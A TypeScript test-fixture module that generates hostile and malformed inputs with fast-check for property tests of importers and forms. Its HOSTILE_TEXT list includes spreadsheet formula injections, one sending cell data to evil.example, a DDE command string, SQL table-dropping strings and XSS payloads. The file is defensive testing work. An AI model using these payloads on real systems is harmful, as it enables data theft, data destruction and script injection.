/**
 * Hostile input shared by the property tests of importers and forms, so every entry
 * point is fed the same malformed, oversized and malicious values.
 */
import fc from "fast-check";

// A fixed seed: every run tries the same cases, so CI cannot pass or fail by luck; change
// it (or unset it locally) to explore further.
export const HOSTILE_SEED = 20_261_128;

/** Text that is dangerous somewhere downstream: spreadsheets, SQL, HTML, terminals. */
export const HOSTILE_TEXT = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=HYPERLINK("http://x","y")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "-2+3",
  "\t=1+1",
  "'; drop table hjp_episodes; --",
  "'); drop table users;--",
  "1; delete from users",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "javascript:alert(1)",
] as const;

/** Values that are not what a field expects: bad numbers, bad dates, odd characters. */
export const MALFORMED_TEXT = [
  "\u0000",
  "a\u0000b",
  "\uFEFF",
  "\u202Eevil",
  "\uD800",
  "\uFFFD\uFFFD",
  "NaN",
  "Infinity",
  "-Infinity",
  "-1e308",
  "1e309",
  "-0",
  "99999999999999999999999",
  "-42",
  "0x10",
  "1,2,3",
  "0000-01-01",
  "0001-01-01",
  "9999-12-31",
  "2025-02-30",
  "2026-02-30",
  "2025-13-45",
  "1900-01-01",
  "31/12/2025",
  "",
  " ",
] as const;

/** One hostile value for a text cell or form field. */
export const hostileCell = fc.oneof(
  fc.string({ unit: "binary", maxLength: 80 }),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ maxLength: 5_000, minLength: 1_000 }),
  fc.constantFrom(...HOSTILE_TEXT, ...MALFORMED_TEXT),
  fc.integer().map(String),
  fc.double().map(String),
);

/** Text a person could type and a form must keep exactly as typed: no rejection, no rewriting. */
export const hostileButValidText = fc
  .oneof(
    fc.constantFrom(...HOSTILE_TEXT),
    fc.tuple(fc.constantFrom(...HOSTILE_TEXT), fc.string({ unit: "grapheme", maxLength: 20 })).map(([a, b]) => `${a} ${b}x`),
  )
  // Forms trim what people type and refuse control characters, so these could never be stored as sent.
  .filter((v) => v.trim() === v && !/[\u0000-\u001F\u007F]/.test(v));
